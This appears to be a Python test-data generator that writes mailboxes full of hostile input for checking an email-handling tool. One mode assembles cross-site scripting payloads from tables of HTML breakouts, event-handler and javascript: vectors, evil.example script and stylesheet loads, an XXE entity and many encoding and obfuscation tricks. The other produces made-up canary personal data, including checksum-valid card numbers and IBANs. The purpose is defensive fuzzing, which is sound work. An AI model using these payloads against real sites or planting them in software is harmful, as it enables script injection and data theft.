#!/usr/bin/env python3
"""What a hostile company may write, as a mailbox.

usage: payloads.py scripts COUNT SEED MBOX LIST
       payloads.py canaries COUNT SEED MBOX LIST

scripts   COUNT ways to get a script into a page: where it breaks out of, what
          it would run, and how it is written, combined at random.  Each calls
          hit(NUMBER) or asks for evil.example.  They stand as subjects, names,
          file names, bodies and in sentences that rules take as promises.
canaries  COUNT personal data, made up: addresses, telephones, IBANs, cards,
          account and order numbers, postcodes, tokens, names.

Writes the mails, and what stands in them to LIST, one a line (JSON).
"""
import base64
import json
import random
import string
import sys

MAILS_OF_A_CASE = 25
OWNER = "Sam Okafor <sam@home.example>"

# --- scripts ---

OUT = [
    "", "x", '">', "'>", '"', "'", "</title>", "</style>", "</script>", "-->", "<!--", "]]>",
    "</textarea>", "</mark>", "</a>", "</svg>", "</text>", "</desc>", "</q></td>", "\">\n", "/>",
    "&quot;>", "{/text}", "{#items}", "{body}", "--!>", "<![CDATA[", "\u2028", "`", "\\\">", ";}",
]
RUN = [
    "<script>{m}</script>",
    "<script/x>{m}</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror={m}>",
    "<img/src=`x`onerror={m}>",
    "<img src=http://evil.example/{n}.png>",
    "<svg onload={m}>",
    "<svg><script>{m}</script></svg>",
    "<svg><animate onbegin={m} attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:{m}\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{m}'/>#x\"></svg>",
    "<iframe srcdoc=\"<script>parent.{m}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{m}\"></iframe>",
    "<object data=\"javascript:{m}\"></object>",
    "<embed src=\"http://evil.example/{n}.swf\">",
    "<details open ontoggle={m}>x</details>",
    "<body onload={m}>",
    "<input autofocus onfocus={m}>",
    "<a href=\"javascript:{m}\" onmouseover={m}>x</a>",
    "<form action=\"javascript:{m}\"><button autofocus onfocus={m}>x</button></form>",
    "<video><source onerror={m}></video>",
    "<audio src=x onerror={m}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={m}>",
    "<noscript><p title=\"</noscript><img src=x onerror={m}>\">",
    "<style>@import 'http://evil.example/{n}.css';</style>",
    "<link rel=stylesheet href=http://evil.example/{n}.css>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/{n}\">",
    "<base href=http://evil.example/{n}/>",
    "<marquee onstart={m}>x</marquee>",
    "<template><img src=x onerror={m}></template>",
    " onmouseover={m} x=",
    " autofocus onfocus={m} tabindex=1 ",
    " style=\"background:url(http://evil.example/{n})\" ",
    " style=animation-name:x onanimationstart={m} ",
    "javascript:{m}",
    "data:text/html,<script>{m}</script>",
    "<?xml-stylesheet href=\"javascript:{m}\"?>",
    "<!ENTITY x SYSTEM \"http://evil.example/{n}\">&x;",
    "<x onclick={m} tabindex=1 id=x onfocus={m}>y",
    "<scr<script>ipt>{m}</scr</script>ipt>",
]


def every_other(text):
    return "".join(c.upper() if i % 2 else c for i, c in enumerate(text))


WRITTEN = [
    lambda t: t,
    lambda t: t,
    lambda t: t.replace("script", "ScRiPt").replace("on", "oN"),
    lambda t: t.replace("<", "&lt;").replace(">", "&gt;"),
    lambda t: t.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda t: "".join("&#%d;" % ord(c) for c in t),
    lambda t: t.replace("<", "&#60").replace(">", "&#x3e;"),
    lambda t: t.replace("<", "%3C").replace(">", "%3E").replace('"', "%22"),
    lambda t: t.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda t: t.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda t: t.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda t: t.replace("script", "scr\u200bipt"),
    lambda t: t.replace("script", "scr\u00adipt"),
    lambda t: t.replace("<", "<\x00").replace("on", "o\x01n"),
    lambda t: t.replace(" ", "\t").replace("=", "=\x0c"),
    lambda t: t.replace("<", "<\u202e"),
    lambda t: t.replace("<", "\ufffe<").replace(">", ">\uffff"),
    lambda t: t.replace("<", "\u02bc<").replace('"', "\u201d"),
    lambda t: every_other(t).replace("HiT", "hit").replace("hIt", "hit"),
]


def scripts(count, rng):
    ways = [(o, r, w) for o in range(len(OUT)) for r in range(len(RUN)) for w in range(len(WRITTEN))]
    rng.shuffle(ways)
    seen, made = set(), []
    for o, r, w in ways:
        n = len(made)
        text = WRITTEN[w](OUT[o] + RUN[r].replace("{m}", "hit(%d)" % n).replace("{n}", str(n)))
        if (o, r, w) not in seen:
            seen.add((o, r, w))
            made.append(text)
        if len(made) == count:
            return made
    sys.exit("there are only %d" % len(made))


# --- canaries ---

GIVEN = "Aurelio Birgitta Casimir Dagny Eustace Florimel Gwendal Hyacinth Isidore Jocasta Klothilde Leofric Melusine Nehemiah Ottoline Perpetua Quirin Rosamund Sidonie Thaddeus Ursulina Valerian Wilhelmina Xaverius Ysolde Zacharias".split()
FAMILY = "Abernethy Brockhausen Cavendale Dombrowska Eltringham Fotheringay Grzegorzek Hohenwarter Ilmarinen Jaszczak Kirkbride Lindqvist Montefalco Nightingall Ostrogski Pennyfeather Quattrini Rasmusdottir Szczepan Throckmorton Ullathorne Vandermeer Wolstenholme Xanthopoulos Ypsilanti Zwingliansen".split()


def digits(rng, n):
    return "".join(rng.choice(string.digits) for _ in range(n))


def grouped(text, n, mark):
    return mark.join(text[i:i + n] for i in range(0, len(text), n))


def iban(rng):
    country, length = rng.choice([("GB", 22), ("DE", 22), ("FR", 27), ("ES", 24), ("NL", 18), ("IE", 22), ("PL", 28)])
    body = ("".join(rng.choice(string.ascii_uppercase) for _ in range(4)) if country in ("GB", "NL", "IE") else "")
    body += digits(rng, length - 4 - len(body))
    number = int("".join(str(int(c, 36)) for c in body + country + "00"))
    whole = country + "%02d" % (98 - number % 97) + body
    return rng.choice([whole, grouped(whole, 4, " ")])


def card(rng):
    body = rng.choice(["4", "51", "37"]) + digits(rng, 20)
    body = body[:15]
    total = 0
    for i, c in enumerate(reversed(body)):
        n = int(c) * (2 if i % 2 == 0 else 1)
        total += n - 9 if n > 9 else n
    whole = body + str(-total % 10)
    return rng.choice([whole, grouped(whole, 4, " "), grouped(whole, 4, "-")])


def phone(rng):
    return rng.choice([
        lambda: "020 7946 0" + digits(rng, 3),
        lambda: "+44 20 7946 0" + digits(rng, 3),
        lambda: "+44 (0)131 496 0" + digits(rng, 3),
        lambda: "(555) 010-" + digits(rng, 4),
        lambda: "555-01" + digits(rng, 2) + "-" + digits(rng, 4),
        lambda: "07700 900" + digits(rng, 3),
        lambda: "0049 30 2" + digits(rng, 7),
        lambda: "+33 1 99 00 " + digits(rng, 2) + " " + digits(rng, 2),
        lambda: "030/2" + digits(rng, 7),
        lambda: "+1.555.010." + digits(rng, 4),
    ])()


def postcode(rng):
    letters = lambda n: "".join(rng.choice("ABDEFGHJLNPQRSTUWXYZ") for _ in range(n))
    return rng.choice([
        lambda: letters(2) + str(rng.randint(1, 9)) + " " + str(rng.randint(1, 9)) + letters(2),
        lambda: letters(1) + str(rng.randint(10, 99)) + " " + str(rng.randint(1, 9)) + letters(2),
        lambda: letters(2) + str(rng.randint(1, 9)) + "A " + str(rng.randint(1, 9)) + letters(2),
        lambda: "D" + digits(rng, 2) + " " + letters(1) + digits(rng, 1) + letters(2),
        lambda: digits(rng, 5),
        lambda: digits(rng, 5) + "-" + digits(rng, 4),
        lambda: "1" + digits(rng, 3) + " " + letters(2),
        lambda: letters(1) + digits(rng, 1) + letters(1) + " " + digits(rng, 1) + letters(1) + digits(rng, 1),
    ])()


def street(rng):
    name = rng.choice(FAMILY)
    return rng.choice([
        lambda: "%d %s Street" % (rng.randint(2, 399), name),
        lambda: "%d %s Road" % (rng.randint(2, 399), name),
        lambda: "Flat %d, %d %s Close" % (rng.randint(2, 40), rng.randint(2, 99), name),
        lambda: "%sstraße %d" % (name, rng.randint(2, 199)),
        lambda: "%d rue %s" % (rng.randint(2, 199), name),
        lambda: "Calle %s %d" % (name, rng.randint(2, 199)),
    ])()


KINDS = [
    lambda rng: "%s.%s%d@%s.example" % (rng.choice(GIVEN).lower(), rng.choice(FAMILY).lower(), rng.randint(1, 99), rng.choice(["mail", "post", "home"])),
    phone, iban, card, postcode, street,
    lambda rng: rng.choice(["", "AC-", "A/", "ACC"]) + digits(rng, rng.choice([6, 8, 10])),
    lambda rng: rng.choice(["ORD-", "PW-", "#", "Z", "INV/"]) + digits(rng, rng.choice([5, 7])) + rng.choice(["", "-" + digits(rng, 3)]),
    lambda rng: grouped(digits(rng, 6), 2, "-") + " " + digits(rng, 8),
    lambda rng: base64.urlsafe_b64encode(rng.randbytes(rng.choice([9, 16, 24]))).decode().rstrip("=") + digits(rng, 1),
    lambda rng: "https://shop.example/reset?t=" + rng.randbytes(8).hex(),
    lambda rng: rng.choice(GIVEN) + " " + rng.choice(FAMILY),
    lambda rng: rng.choice(["Mr", "Mrs", "Ms", "Dr"]) + " " + rng.choice(FAMILY),
]


def canaries(count, rng):
    made, seen = [], set()
    while len(made) < count:
        kind = len(made) % len(KINDS)
        text = KINDS[kind](rng)
        if text not in seen:
            seen.add(text)
            made.append(text)
    return made


# --- mails ---

def word(text):
    """RFC 2047; cut so that no word is over-long."""
    raw = text.encode("utf-8", "surrogatepass")
    parts = [raw[i:i + 30] for i in range(0, len(raw), 30)] or [b""]
    return "\n ".join("=?utf-8?B?" + base64.b64encode(p).decode() + "?=" for p in parts)


def file_name(text):
    return "".join("%%%02X" % b for b in text.encode("utf-8"))


DAYS = ["%d %s 2026" % (day, month) for month in ("March", "April", "May") for day in range(2, 28)]
ACTS = ["refund you", "send you a replacement", "call you", "reply to you"]


def mail(number, case, texts, kind):
    """Takes about 20 texts off the list."""
    def take():
        return texts.pop() if texts else "nothing"
    first = number % MAILS_OF_A_CASE == 0
    start = "m%d@x.example" % (case * MAILS_OF_A_CASE)
    date = "%s, %02d Feb 2026 10:00:00 +0000" % (
        ["Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"][number % MAILS_OF_A_CASE % 7], 1 + number % MAILS_OF_A_CASE)
    company = "care%d@firm%d.example" % (case, case)
    subject = take()
    name = "Sam Okafor" if first else take()
    head = "From: %s <%s>\nTo: %s\n" % (word(name), company, OWNER)
    if first:
        head = "From: %s\nTo: <%s>\n" % (OWNER, company)
    head += "Message-ID: <m%d@x.example>\nDate: %s\nSubject: %s\n" % (number, date, word(subject))
    if not first:
        head += "In-Reply-To: <%s>\nReferences: <%s>\n" % (start, start)
    head += "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"edge\"\n\n"
    body = "Dear Sam,\n\nAbout your complaint.\n\n"
    for i in range(6):
        body += "We will %s as to %s by %s.\n\n" % (
            ACTS[i % len(ACTS)], take(), DAYS[(number * 6 + i) % len(DAYS)])
    for i in range(6):
        body += take() + "\n\n"
    body += "Kind regards,\n" + (name if kind == "canaries" else take()) + "\n"
    out = head + "--edge\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
    out += base64.encodebytes(body.encode("utf-8")).decode()
    for i in range(5):
        text = take()
        out += "--edge\nContent-Type: text/csv; name*=utf-8''%s\n" % file_name(text)
        out += "Content-Disposition: attachment; filename*=utf-8''%s\n\na,%d\n" % (file_name(text), i)
    return out + "--edge--\n"


def main():
    kind, count, seed, mbox, listing = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
    rng = random.Random(seed)
    texts = {"scripts": scripts, "canaries": canaries}[kind](count, rng)
    with open(listing, "w") as f:
        for text in texts:
            f.write(json.dumps(text) + "\n")
    left, number = texts[::-1], 0
    with open(mbox, "w") as f:
        while left:
            f.write("From x Sun Feb  1 10:00:00 2026\n" + mail(number, number // MAILS_OF_A_CASE, left, kind) + "\n")
            number += 1


if __name__ == "__main__":
    main()
